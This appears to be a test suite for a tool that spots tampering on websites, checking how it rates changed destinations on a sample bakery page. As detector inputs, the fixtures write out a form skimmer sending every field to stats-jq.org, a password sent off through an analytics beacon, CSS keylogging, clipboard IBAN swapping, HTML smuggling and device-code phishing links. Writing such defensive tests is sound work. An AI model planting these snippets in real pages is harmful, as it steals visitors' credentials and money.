import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("destinations: where the page sends visitors and their data", () => {
  it("the login form retargeted to a domain the page never used is critical, and says so in words", () => {
    const v = verdictOf(page({ seed: 5, loginAction: "https://login-3fa.example/account" }))
    expect(v.alert).toBe(true)
    const f = v.findings.find((f) => f.check === "form_retargeted")!
    expect(f).toMatchObject({ question: "destinations", severity: "critical", breach: true })
    expect(f.message).toBe("the login form now posts to login-3fa.example, a domain this page never used (it posted to harbourbakery.co.uk)")
    expect(v.summary.startsWith("the login form now posts to login-3fa.example")).toBe(true)
  })

  it("a form action moved to another path of the same site is not a finding", () => {
    expect(checks(verdictOf(page({ seed: 5, loginAction: "/auth/sign-in" })))).not.toContain("destinations/form_retargeted")
  })

  it("a new form that sends what visitors type to a new domain alerts; one to a newsletter provider does not", () => {
    const phish = verdictOf(page({ seed: 5, body: `<form action="https://secure-verify.top/p"><input name="card"><input name="cvv"></form>` }))
    expect(breaches(phish)).toContain("destinations/form_new_domain")
    const newsletter = verdictOf(page({ seed: 5, body: `<form action="https://harbour.us3.list-manage.com/subscribe/post"><input type="email" name="EMAIL"><button>Subscribe</button></form>` }))
    expect(newsletter.alert).toBe(false)
  })

  it("new active content from a new domain alerts: script, frame, embed, stylesheet; from a provider it is reported only", () => {
    for (const body of [
      `<script src="https://cdn-jquery.su/jquery.min.js"></script>`,
      `<iframe src="http://ads-dl.xyz/in.php" width="1" height="1"></iframe>`,
      `<embed src="https://flash-host.cc/owned.swf">`,
      `<link rel="stylesheet" href="https://css-cdn.pw/x.css">`
    ]) {
      expect(verdictOf(page({ seed: 5, body })).alert, body).toBe(true)
    }
    const embed = verdictOf(page({ seed: 5, body: `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>` }))
    expect(embed.alert).toBe(false)
    expect(checks(embed)).toContain("destinations/frame_new_domain")
  })

  it("a script of the page now loaded from another domain is retargeted (critical)", () => {
    const v = verdictOf(page({ seed: 5 }).replace("/static/app.js", "https://static-cdn.ws/static/app.js"))
    expect(v.findings.find((f) => f.check === "script_retargeted")).toMatchObject({ severity: "critical" })
  })

  it("the base URL and redirects to a new domain are critical; a same-site redirect alerts too", () => {
    expect(breaches(verdictOf(page({ seed: 5, head: `<base href="https://mirror.cachefront.xyz/">` })))).toContain("destinations/base_retargeted")
    expect(breaches(verdictOf(page({ seed: 5, head: `<meta http-equiv="refresh" content="3; URL='https://winner-prize.top/'">` })))).toContain("destinations/redirect")
    expect(breaches(verdictOf(page({ seed: 5, body: `<script>if(document.referrer.indexOf("google")>-1){top.location.replace("https://pharm-shop.biz/")}</script>` })))).toContain("destinations/redirect")
    expect(breaches(verdictOf(page({ seed: 5, head: `<meta http-equiv="refresh" content="0;url=/uploads/notice.html">` })))).toContain("destinations/redirect_same_site")
  })

  it("a stable link now pointing at a new domain is retargeted", () => {
    const v = verdictOf(page({ seed: 5 }).replace(`href="/order"`, `href="https://order-harbourbakery.shop/"`))
    expect(v.findings.find((f) => f.check === "link_retargeted")?.message).toContain(`the link "Order online" now points to order-harbourbakery.shop`)
    expect(v.alert).toBe(true)
  })

  it("new links are weighed: a few to new sites are normal, hidden ones and a flood are not", () => {
    const article = verdictOf(page({ seed: 5, main: `<p>We were featured by <a href="https://www.yorkshirepost.co.uk/food">the Yorkshire Post</a> and <a href="https://www.bbc.co.uk/food">BBC Food</a> this autumn, and we thank everyone who came to try the new loaves.</p>` }))
    expect(article.alert).toBe(false)
    const hidden = verdictOf(page({ seed: 5, body: `<div style="display:none"><a href="https://best-watches.cc/">watches</a> <a href="https://cheap-tickets.cc/">flights</a></div>` }))
    expect(breaches(hidden)).toContain("destinations/hidden_links")
    const some = ["alpha-deals.net", "bravo-shop.org", "charlie-news.info", "delta-store.biz", "echo-mall.com", "foxtrot.io"]
    const partners = verdictOf(page({ seed: 5, body: `<footer><p>${some.map((d) => `<a href="https://${d}/">${d}</a>`).join(" ")}</p></footer>` }))
    expect(partners.findings.find((f) => f.check === "links_new_domains")).toMatchObject({ severity: "medium", breach: false })
    const many = [...some, "golf-club.net", "hotel-rooms.org", "india-tours.info", "juliet-bags.biz", "kilo-sports.com", "lima-travel.io"]
    const farm = verdictOf(page({ seed: 5, body: `<p>${many.map((d) => `<a href="https://${d}/">${d}</a>`).join(" ")}</p>` }))
    expect(breaches(farm)).toContain("destinations/links_new_domains")
    const spam = verdictOf(page({ seed: 5, body: `<ul><li><a href="/p/slot-gacor-maxwin">slot gacor hari ini</a></li><li><a href="/p/judi-online">situs judi online terpercaya</a></li></ul>` }))
    expect(breaches(spam)).toContain("destinations/spam_links")
    // one bought backlink: a vice keyword as the whole link text, to a new site
    const backlink = verdictOf(page({ seed: 5, body: `<footer><small>Theme by <a href="https://lucky-spin-77.example/">online casino</a></small></footer>` }))
    expect(breaches(backlink)).toContain("destinations/spam_links")
    // a short link text with a commercial word that is not a vice (a university's "Student loans"), and the same vice word inside a sentence-long citation, are not
    // share buttons carry the page's own address (and its words) in their query
    const share = verdictOf(page({ seed: 5, body: `<p><a href="https://share-this.example/share?u=https%3A%2F%2Fsite%2Fcasino-ban-news">Share</a> <a href="https://post-it.example/intent?url=casino-ban-news&text=casino">Post</a></p>` }))
    expect(share.findings.find((f) => f.check === "spam_links")).toBeUndefined()
    const loans = verdictOf(page({ seed: 5, main: `<p>Read about <a href="https://studentaid.example.gov/">Student loans</a> before you enrol.</p>` }))
    expect(loans.findings.find((f) => f.check === "spam_links")).toBeUndefined()
    const cited = verdictOf(page({ seed: 5, main: `<p>See <a href="https://news-daily.example/regulation">how the new law on casino advertising changes what the city's venues may show on their windows</a>.</p>` }))
    expect(cited.findings.find((f) => f.check === "spam_links")).toBeUndefined()
  })

  it("a new link to a domain imitating the page's own alerts; the page's own and unrelated sites do not", () => {
    for (const host of ["harbourbakery-new.shop", "my-harbour-bakery.com", "harbourbakrey.co.uk"]) {
      const v = verdictOf(page({ seed: 5, main: `<p>Order online at <a href="https://${host}/">our shop</a>.</p>` }))
      expect(v.findings.find((f) => f.check === "link_lookalike"), host).toMatchObject({ severity: "high", breach: true, site: host })
    }
    // the same name under another suffix, or with "the" before it, is as often the owner's other domain: a sign
    for (const host of ["harbourbakery.com", "theharbourbakery.com"]) {
      const v = verdictOf(page({ seed: 5, main: `<p>Order online at <a href="https://${host}/">our shop</a>.</p>` }))
      expect(v.findings.find((f) => f.check === "link_lookalike"), host).toMatchObject({ severity: "medium", breach: false })
    }
    for (const host of ["harbourtrust.org", "bakeryguild.org", "whitbyharbour.com"]) {
      const v = verdictOf(page({ seed: 5, main: `<p>Thanks to <a href="https://${host}/">our friends</a>.</p>` }))
      expect(v.findings.find((f) => f.check === "link_lookalike"), host).toBeUndefined()
    }
  })

  it("the page's version in another language now on another domain alerts (an SEO hijack); a feed on a new host does not", () => {
    const v = verdictOf(page({ seed: 5, head: `<link rel="alternate" hreflang="fr" href="https://boulangerie-port.example/fr/">` }))
    expect(v.findings.find((f) => f.check === "canonical_new_domain")).toMatchObject({ severity: "high", breach: true })
    const feed = verdictOf(page({ seed: 5, head: `<link rel="alternate" type="application/rss+xml" href="https://feeds.news-host.example/harbour/rss">` }))
    expect(feed.findings.find((f) => f.check === "canonical_new_domain")).toBeUndefined()
  })

  it("an image from a new domain alerts even inside a link to the site that serves it (a banner or a badge look the same)", () => {
    const linked = verdictOf(page({ seed: 5, main: `<p><a href="https://www.northfoodawards.example/winners-2026"><img src="https://www.northfoodawards.example/badges/winner-2026.png" alt="Winner 2026"></a></p>` }))
    expect(breaches(linked)).toContain("destinations/image_new_domain")
  })

  it("a visible image from a site the page never used alerts; a hidden pixel from one is only a sign; one from a provider is context", () => {
    const shown = verdictOf(page({ seed: 5, main: `<p><img src="https://img-drop-4412.example/u/banner.jpg" alt="Read this"></p>` }))
    expect(shown.findings.find((f) => f.check === "image_new_domain")).toMatchObject({ severity: "high", breach: true })
    const pixel = verdictOf(page({ seed: 5, body: `<div style="display:none"><img src="https://px-counter.example/p.gif?id=4" alt=""></div>` }))
    expect(pixel.findings.find((f) => f.check === "image_new_domain")).toMatchObject({ severity: "medium" })
    expect(pixel.alert).toBe(false)
    const provider = verdictOf(page({ seed: 5, main: `<p><img src="https://images.unsplash.com/photo-1509440159596-0249088772ff?w=800" alt="Bread"></p>` }))
    expect(provider.findings.filter((f) => f.breach)).toEqual([])
  })

  it("a new inline script that reads what visitors type and sends it to a new domain is critical", () => {
    const skimmer = `<script>document.querySelectorAll("form").forEach(function(f){f.addEventListener("submit",function(){var d={};for(var i of f.elements)d[i.name]=i.value;navigator.sendBeacon("https://stats-jq.org/c",JSON.stringify(d))})})</script>`
    const v = verdictOf(page({ seed: 5, body: skimmer }))
    expect(v.findings.find((f) => f.check === "script_exfiltrates")).toMatchObject({ severity: "critical", breach: true })
    const hidden = verdictOf(page({ seed: 5, body: `<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJ2hpJyk="))</script>` }))
    expect(breaches(hidden)).toContain("destinations/script_obfuscated")
  })

  it("the page's own inline scripts with fresh nonces and state are not new", () => {
    expect(checks(verdictOf(page({ seed: 9 }))).filter((c) => c.startsWith("destinations/"))).toEqual([])
  })

  it("a new script file on the page's own site is the site's own code: reported, not alerted on", () => {
    const v = verdictOf(page({ seed: 5, body: `<script src="/static/js/snowfall.js"></script>` }))
    expect(v.findings.find((f) => f.check === "script_new_file")).toMatchObject({ severity: "low" })
    expect(v.findings.find((f) => f.check === "count_script")).toMatchObject({ severity: "low" })
    expect(v.alert).toBe(false)
  })

  it("files renamed by a new build, or moved to another host, are the same files", () => {
    const rebuilt = verdictOf(page({ seed: 5 }).replace("/static/app.js", "/static/app.7f3a9c21.js").replace("/static/site.css", "/static/site.8e21bb90.css"))
    expect(rebuilt.alert).toBe(false)
    const cdn = page({ seed: 5 }).replaceAll("/static/", "https://d3k81ch9hvuctc.cloudfront.net/static/")
    const moved = verdictOf(cdn)
    expect(moved.alert).toBe(false)
    expect(moved.findings.find((f) => f.check === "assets_moved")?.message).toBe("the page now serves its own files from d3k81ch9hvuctc.cloudfront.net")
    // one of the page's scripts alone moved to a new domain is a retarget
    expect(verdictOf(page({ seed: 5 }).replace("/static/app.js", "https://d3k81ch9hvuctc.cloudfront.net/static/app.js")).alert).toBe(true)
  })
})

describe("destinations: calls to action, downloads, covering links and known hosts", () => {
  it("a short notice at the top whose link leads to a new site alerts (the page sends its audience elsewhere)", () => {
    const moved = verdictOf(page({ seed: 5, top: `<div style="position:fixed;top:0;left:0;right:0;z-index:9999;background:#222;color:#fff;padding:8px">Our shop has a new home. <a href="https://harbour-bakery-orders.shop/">Continue to the new shop</a></div>` }))
    expect(moved.findings.find((f) => f.check === "link_prominent")).toMatchObject({ severity: "high", breach: true })
    expect(moved.alert).toBe(true)
    // an article further down that cites other sites is not a call to action
    const cited = verdictOf(page({ seed: 5, main: `<p>Our rye starter is older than the café. The recipe follows the one described by <a href="https://www.theguardian.com/food">the Guardian</a> in a long piece on Nordic baking, which also covers how long a starter can be kept in a cold cellar, why the water matters, and what a baker does when the weather turns.</p>` }))
    expect(cited.findings.find((f) => f.check === "link_prominent")).toBeUndefined()
  })

  it("a download from a site the page never used alerts", () => {
    const v = verdictOf(page({ seed: 5, main: `<p>Download our <a href="http://203.0.113.7/files/menu-2026.pdf.exe">winter menu</a>.</p>` }))
    expect(v.findings.find((f) => f.check === "download_new_domain")).toMatchObject({ severity: "high", breach: true })
    const own = verdictOf(page({ seed: 5, main: `<p>Download our <a href="/files/menu-2026.zip">winter menu</a>.</p>` }))
    expect(own.findings.find((f) => f.check === "download_new_domain")).toBeUndefined()
  })

  it("a link spread over the whole page takes every click: critical", () => {
    const v = verdictOf(page({ seed: 5, body: `<a href="https://promo-clicks.example/r?id=4" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;opacity:0"></a>` }))
    expect(v.findings.find((f) => f.check === "link_covers_page")).toMatchObject({ severity: "critical", breach: true })
  })

  it("a script from a host known to have served malware is critical; one from an open package CDN is a sign; a known vendor is context", () => {
    const compromised = verdictOf(page({ seed: 5, head: `<script src="https://cdn.polyfill.io/v3/polyfill.min.js?features=default"></script>` }))
    expect(compromised.findings.find((f) => f.check === "script_compromised_host")).toMatchObject({ severity: "critical" })
    const cdn = verdictOf(page({ seed: 5, head: `<script src="https://cdn.jsdelivr.net/npm/some-widget@2.1.0/dist/widget.min.js"></script>` }))
    expect(cdn.findings.find((f) => f.check === "script_new_domain")).toMatchObject({ severity: "medium", breach: false })
    const vendor = verdictOf(page({ seed: 5, body: `<div id="booking"></div><script src="https://assets.calendly.com/assets/external/widget.js" async></script>` }))
    expect(vendor.alert).toBe(false)
  })

  it("a new inline script that reads card or password fields, or hands typed data to any other site, is high", () => {
    const viaAnalytics = `<script>document.getElementById("login").addEventListener("submit",function(e){var p=e.target.querySelector("[name=password]").value;new Image().src="https://www.google-analytics.com/collect?v=1&t=event&el="+encodeURIComponent(p)})</script>`
    expect(verdictOf(page({ seed: 5, body: viaAnalytics })).findings.find((f) => f.check === "script_collects")).toMatchObject({ severity: "high", breach: true })
    const suggestions = `<script>document.querySelector("#q").addEventListener("input",function(e){fetch("/search/suggest?q="+encodeURIComponent(e.target.value))})</script>`
    expect(verdictOf(page({ seed: 5, body: `<input id="q">${suggestions}` })).findings.find((f) => f.check === "script_collects")).toMatchObject({ severity: "medium" })
  })
})

describe("the site's own files across builds", () => {
  it("a build that adds or changes a fingerprint in a file name, or moves the files to a CDN under the same paths, changes nothing", () => {
    const build = (name: (f: string) => string) => (seed: number) =>
      page({ seed, head: `<script src="${name("/static/vendor.js")}"></script><script src="${name("/static/checkout.js")}"></script><link rel="stylesheet" href="${name("/static/print.css")}">` })
    const base = baselineOf(samples(build((f) => f)))
    const fingerprinted = build((f) => f.replace(/\.(js|css)$/, ".3f9a1c2b.$1"))(7)
    expect(verdictOf(fingerprinted, base).alert).toBe(false)
    expect(checks(verdictOf(fingerprinted, base)).filter((c) => c.startsWith("integrity/"))).toEqual([])
    const moved = build((f) => `https://d1x2y3z4.cdn-edge-assets.net${f}`)(7)
    expect(checks(verdictOf(moved, base)).filter((c) => c.startsWith("integrity/"))).toEqual([])
  })
})

describe("destinations: search engines and the clipboard", () => {
  it("a canonical address moved to a site the page never used hands its ranking over", () => {
    const v = verdictOf(page({ seed: 5, head: `<link rel="canonical" href="https://bakery-deals-online.example/whitby">` }))
    expect(v.findings.find((f) => f.check === "canonical_new_domain")).toMatchObject({ severity: "high", breach: true })
    const feed = verdictOf(page({ seed: 5, head: `<link rel="alternate" type="application/rss+xml" href="https://feeds.example-feeds.net/harbourbakery">` }))
    expect(feed.findings.find((f) => f.check === "canonical_new_domain")).toBeUndefined()
  })

  it("a new script that rewrites what visitors copy is high", () => {
    const clipper = `<script>document.addEventListener("copy",function(e){var t=String(window.getSelection());if(/^GB\\d{2}/.test(t)){e.clipboardData.setData("text/plain","GB33BUKB20201555555555");e.preventDefault()}})</script>`
    expect(verdictOf(page({ seed: 5, body: clipper })).findings.find((f) => f.check === "script_copy_hijack")).toMatchObject({ severity: "high", breach: true })
  })

  it("every srcset candidate is a reference: an image swapped through srcset, its src kept, alerts", () => {
    const v = verdictOf(page({ seed: 5, body: `<img src="/img/loaf.jpg" srcset="https://img-cdn.click/a/owned-480.png 480w, https://img-cdn.click/a/owned-1200.png 1200w" alt="Our loaf">` }))
    expect(breaches(v)).toContain("destinations/image_new_domain")
    const own = verdictOf(page({ seed: 5, body: `<img src="/img/loaf.jpg" srcset="/img/loaf-480.jpg 480w, /img/loaf-1200.jpg 1200w" alt="Our loaf">` }))
    expect(own.alert).toBe(false)
  })

  it("CSS that loads addresses by what a form field holds reads what visitors type; a web font from a new domain redraws the page", () => {
    const keys = "abc".split("").map((c) => `input[name="password"][value$="${c}"]{background:url(https://pix-track.icu/k?c=${c})}`).join("")
    const css = verdictOf(page({ seed: 5, head: `<style>${keys}</style>` }))
    expect(css.findings.filter((f) => f.check === "style_reads_input")).toHaveLength(1)
    expect(breaches(css)).toContain("destinations/style_reads_input")
    const font = verdictOf(page({ seed: 5, head: `<style>@font-face{font-family:"Contact";src:url(https://fnt-host.cyou/c.woff2) format("woff2")}a[href^="tel:"]{font-family:"Contact"}</style>` }))
    expect(breaches(font)).toContain("destinations/style_new_domain")
    const google = verdictOf(page({ seed: 5, head: `<style>@font-face{font-family:"Lato";src:url(https://fonts.gstatic.com/s/lato/v24/x.woff2) format("woff2")}</style>` }))
    expect(google.alert).toBe(false)
  })

  it("a new link that asks visitors to pay on a new domain, or to install a browser extension, alerts", () => {
    const fine = verdictOf(page({ seed: 5, body: `<p>Parking charge outstanding: £35. <a href="https://parking-notice.top/p?r=88">Pay now</a></p>` }))
    expect(breaches(fine)).toContain("destinations/link_payment")
    const shop = verdictOf(page({ seed: 5, body: `<p><a href="https://www.paypal.com/donate?hosted_button_id=X">Pay now</a></p>` }))
    expect(checks(shop)).not.toContain("destinations/link_payment")
    const ext = verdictOf(page({ seed: 5, body: `<p>This video needs a player: <a href="https://chromewebstore.google.com/detail/video-player-hd/abcdefghijklmnop">Add to Chrome</a></p>` }))
    expect(breaches(ext)).toContain("destinations/extension_install")
  })

  it("a file carried inside the page for visitors to save (HTML smuggling) alerts; one the samples had does not", () => {
    const smuggled = verdictOf(page({ seed: 5, body: `<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="Invoice-2231.js">Your invoice</a>` }))
    expect(breaches(smuggled)).toContain("destinations/download_embedded")
    const csv = verdictOf(page({ seed: 5, body: `<a href="data:text/csv;charset=utf-8,a,b" download="prices.csv">Price list</a>` }))
    expect(checks(csv)).not.toContain("destinations/download_embedded")
  })

  it("a bucket on shared object storage is its own site: a script from a new bucket alerts", () => {
    const v = verdictOf(page({ seed: 5, body: `<script src="https://storage.googleapis.com/jquery-cdn-77/jquery.min.js"></script>` }))
    expect(v.findings.find((f) => f.check === "script_new_domain")).toMatchObject({ severity: "high", breach: true })
    expect(v.findings.find((f) => f.check === "script_new_domain")!.message).toContain("storage.googleapis.com/jquery-cdn-77")
  })

  it("a sign-up form moved to an e-mail service is a vendor change; a login form moved there is not", () => {
    const signup = `<form action="/subscribe"><input type="email" name="email"><button>Join</button></form>`
    const base = baselineOf(samples((seed) => page({ seed, body: signup })))
    const moved = verdictOf(page({ seed: 5, body: signup.replace("/subscribe", "https://app.kit.com/forms/123/subscriptions") }), base)
    expect(moved.alert).toBe(false)
    expect(checks(moved)).toContain("destinations/form_provider")
    const login = `<form action="/login"><input name="user"><input type="password" name="password"></form>`
    const lbase = baselineOf(samples((seed) => page({ seed, body: login })))
    expect(breaches(verdictOf(page({ seed: 5, body: login.replace("/login", "https://app.kit.com/forms/123") }), lbase))).toContain("destinations/form_retargeted")
  })

  it("a new inline script that reads the visitor's cookies and sends requests that change something alerts", () => {
    const v = verdictOf(page({ seed: 5, body: `<script>if(document.cookie.indexOf("session")>-1){fetch("/admin/users",{method:"POST",body:"role=admin&user=x"})}</script>` }))
    expect(breaches(v)).toContain("destinations/script_session_request")
    const theme = verdictOf(page({ seed: 5, body: `<script>document.cookie="theme=dark; path=/";fetch("/api/ping",{method:"POST"})</script>` }))
    expect(checks(theme)).not.toContain("destinations/script_session_request")
  })

  it("a hidden image or frame that opens an affiliate link for every visitor alerts (cookie stuffing); a visible affiliate link does not", () => {
    const stuffed = verdictOf(page({ seed: 5, body: `<img src="https://www.amazon.co.uk/?tag=crew-21" width="1" height="1" style="display:none">` }))
    expect(breaches(stuffed)).toContain("destinations/hidden_affiliate")
    const visible = verdictOf(page({ seed: 5, main: `<p>We use <a href="https://www.amazon.co.uk/dp/B000?tag=harbour-21">this flour</a>.</p>` }))
    expect(checks(visible)).not.toContain("destinations/hidden_affiliate")
  })

  it("an element hidden by its own style loads hidden: a hidden frame is not a visible one", () => {
    const v = verdictOf(page({ seed: 5, body: `<iframe src="https://frame-host.top/x" width="0" height="0" style="visibility:hidden"></iframe>` }))
    expect(breaches(v)).toContain("destinations/frame_new_domain")
    const img = verdictOf(page({ seed: 5, body: `<img src="https://pix-host.top/p.gif" style="display:none">` }))
    expect(img.findings.find((f) => f.check === "image_new_domain")).toMatchObject({ severity: "medium" })
  })

  it("a new archive or program to download on the page's own site is a sign; one link of a vice term to a new site is spam", () => {
    const own = verdictOf(page({ seed: 5, main: `<p>Get the files: <a href="/uploads/templates_free.zip">templates_free.zip</a></p>` }))
    expect(own.findings.find((f) => f.check === "download_own_site")).toMatchObject({ severity: "medium" })
    const essays = verdictOf(page({ seed: 5, body: `<ul><li><a href="https://essay-mill.pro/">Buy Essays Online</a></li></ul>` }))
    expect(breaches(essays)).toContain("destinations/spam_links")
  })

  it("a new link that opens a program or a file on the visitor's machine alerts", () => {
    const search = verdictOf(page({ seed: 5, main: `<p>Your invoice is ready: <a href="search-ms:query=invoice&amp;crumb=location:\\\\files-share.example@SSL\\DavWWWRoot">open it in Explorer</a></p>` }))
    expect(breaches(search)).toContain("destinations/link_local_handler")
    const installer = verdictOf(page({ seed: 5, main: `<p><a href="ms-appinstaller:?source=https://cdn-upd.example/app.msixbundle">Install the viewer</a></p>` }))
    expect(breaches(installer)).toContain("destinations/link_local_handler")
    const redirect = verdictOf(page({ seed: 5, body: `<script>setTimeout(function(){location.href="search-ms:query=report&crumb=location:\\\\\\\\docs-share.example@SSL\\\\DavWWWRoot"},800)</script>` }))
    expect(breaches(redirect)).toContain("destinations/link_local_handler")
    const contact = verdictOf(page({ seed: 5, main: `<p><a href="mailto:cakes@harbourbakery.co.uk">cakes@harbourbakery.co.uk</a> <a href="javascript:void(0)">more</a></p>` }))
    expect(checks(contact)).not.toContain("destinations/link_local_handler")
  })

  it("a link to a device-code sign-in page, or to a consent page granting a new site, alerts; the site's own sign-in does not", () => {
    const device = verdictOf(page({ seed: 5, main: `<p>To view the shared file go to <a href="https://microsoft.com/devicelogin">microsoft.com/devicelogin</a> and enter code HB7-QX2.</p>` }))
    expect(breaches(device)).toContain("destinations/link_account_grant")
    const consent = verdictOf(page({ seed: 5, main: `<p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&amp;response_type=code&amp;redirect_uri=https%3A%2F%2Fdoc-share-portal.example%2Fcb&amp;scope=Mail.Read">Accept and open</a></p>` }))
    expect(breaches(consent)).toContain("destinations/link_account_grant")
    const own = verdictOf(page({ seed: 5, main: `<p><a href="https://accounts.google.com/o/oauth2/v2/auth?client_id=1&amp;redirect_uri=https%3A%2F%2Fwww.harbourbakery.co.uk%2Foauth&amp;scope=email">Sign in with Google</a></p>` }))
    expect(checks(own)).not.toContain("destinations/link_account_grant")
  })

  it("links on a lone punctuation mark to new sites are hidden links", () => {
    const v = verdictOf(page({ seed: 5, main: `<p>Celebration cakes can be ordered with a week's notice<a href="https://best-loans-4u.example/">.</a> We bake every day<a href="https://cheap-pills-online.example/">,</a> even Sundays.</p>` }))
    expect(breaches(v)).toContain("destinations/hidden_links")
    const arrow = verdictOf(page({ seed: 5, main: `<p>Our flour comes from a mill in Yorkshire <a href="https://www.yorkshire-mill.example/">→</a></p>` }))
    expect(checks(arrow)).not.toContain("destinations/hidden_links")
  })

  it("new links to new sites written in a script the page never uses alert; a language menu to the site's own pages does not", () => {
    const spam = verdictOf(page({ seed: 5, body: `<p><a href="https://lotto-888.example/a">六合彩开奖结果</a> · <a href="https://bet-365x.example/b">皇冠体育投注</a></p>` }))
    expect(breaches(spam)).toContain("destinations/links_foreign_script")
    const menu = verdictOf(page({ seed: 5, top: `<nav><a href="/zh/">中文版本</a> <a href="/ja/">日本語のページ</a></nav>` }))
    expect(checks(menu)).not.toContain("destinations/links_foreign_script")
  })

  it("a grid of linked images from one new site alerts even when each links to the site serving it", () => {
    const grid = Array.from({ length: 6 }, (_, i) => `<a href="https://clicks.trendfeed.example/r/${i}"><img src="https://img.trendfeed.example/t/${i}.jpg" alt="You won't believe ${i}"></a>`).join("")
    expect(breaches(verdictOf(page({ seed: 5, body: `<div class="around-the-web">${grid}</div>` })))).toContain("destinations/image_new_domain")
  })

  it("sign-in buttons from the big identity providers are vendors, not new code from strangers", () => {
    const v = verdictOf(page({ seed: 5, head: `<script src="https://accounts.google.com/gsi/client" async></script><script src="https://appleid.cdn-apple.com/appleauth/static/jsapi/appleid/1/en_US/appleid.auth.js"></script>` }))
    expect(v.alert).toBe(false)
  })
})
